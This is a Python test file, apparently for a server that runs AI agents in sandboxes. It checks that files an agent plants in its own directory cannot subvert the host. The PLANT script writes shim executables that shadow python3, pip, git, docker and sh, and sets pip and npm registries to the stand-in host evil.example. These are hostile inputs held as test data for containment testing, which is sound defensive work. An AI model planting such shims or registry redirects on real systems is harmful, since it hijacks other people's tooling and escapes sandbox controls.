"""The agent's code on the server's machine: what an agent leaves in its directory, and presets that are asked next."""

import shutil
import tempfile
from pathlib import Path

import pytest

from tests.control.machines import Machine

PLANT = """
mkdir -p bin
for name in python3 python pip uv npm node go cargo mvn apt-get git docker bwrap nft ip sh; do
    printf '#!/bin/sh\\necho "$0 $*" >>%s/witness\\n' "$PWD" >bin/$name
    chmod 755 bin/$name
done
printf '[global]\\nindex-url = https://evil.example/simple\\n' >pip.conf
echo registry=https://evil.example/ >.npmrc
"""


@pytest.fixture
def project():
    directory = Path(tempfile.mkdtemp(prefix="belljar-project-", dir="/var/tmp"))
    yield directory
    shutil.rmtree(directory)


@pytest.fixture
def machine(universe, project):
    """A server whose environment leads to a directory of a sandbox's."""
    directory = Path(tempfile.mkdtemp(prefix="belljar-serve-", dir="/var/tmp"))
    machine = Machine(universe, directory / "state")
    machine.environment = {
        "PATH": f"{project}/bin:/usr/bin:/bin:/usr/sbin:/sbin",
        "PIP_CONFIG_FILE": f"{project}/pip.conf",
    }
    try:
        machine.start()
        yield machine
        machine.clean_up()
    finally:
        machine.kill()
    assert machine.leftovers() == []
    shutil.rmtree(directory)


def test_presets_by_api_run_nothing_and_believe_nothing_of_an_agents(machine, project):
    jar = machine.sandbox(workdir=str(project))
    assert machine.run(jar, "/bin/sh", "-c", PLANT)["exit_code"] == 0
    assert (project / "bin/python3").exists()
    network = f"/sandboxes/{jar}/network"
    with machine.client() as client:
        for presets in ({"presets": ["node", "go"]}, {"presets": ["agent-default"]}):
            answer = client.put(network, json={"mode": "block-all", **presets})
            assert answer.status_code == 200, answer.text
            assert "evil.example" not in client.get(f"{network}?expand=true").text
        made = client.post("/sandboxes", json={"network": {"mode": "block-all", "presets": ["node"]}})
        assert made.status_code == 201, made.text
        before = client.get(network).json()
        for answer in (
            client.put(network, json={"mode": "block-all", "presets": ["python"]}),
            client.patch(network, json={"add": {"presets": ["python"]}}),
            client.post("/sandboxes", json={"network": {"mode": "block-all", "presets": ["python"]}}),
        ):
            assert answer.status_code in (400, 422), answer.text
            assert f"{project}/pip.conf is not trusted, since it is where a sandbox can have written" in answer.text
            assert "name the host instead" in answer.text
        assert client.get(network).json() == before
    assert not (project / "witness").exists()
    assert machine.fetch(jar, "http://evil.example/") == ""


def test_what_the_system_runs_is_not_to_be_written_to(machine, project):
    with machine.client() as client:
        mount = {"source": "/usr/local", "target": "/shown", "writable": True}
        answer = client.post("/sandboxes", json={"mounts": [mount]})
        assert answer.status_code >= 400
        assert "/usr/local is part of the system" in answer.text
    jar = machine.sandbox(mounts=[{**mount, "writable": False}])
    assert machine.run(jar, "ls", "/shown")["exit_code"] == 0
